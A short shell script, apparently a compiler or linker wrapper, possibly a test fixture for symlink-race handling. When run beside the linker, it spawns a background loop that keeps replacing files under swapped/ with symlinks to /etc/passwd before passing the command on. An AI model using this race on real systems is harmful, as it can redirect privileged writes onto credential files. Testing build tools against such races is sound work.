mkdir -p swapped
swap() {
    while :; do
        for n in 0 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19; do
            rm -rf swapped/$n
            echo "its own" > swapped/$n
            rm -rf swapped/$n
            ln -s /etc/passwd swapped/$n
        done
    done
}
# Only beside the linker: an assembler waits for the end of a pipe that a daemon would hold.
case "$1" in *collect2 | */enclos/link) (swap > swapped/said 2>&1 &) ;; esac
exec "$@"
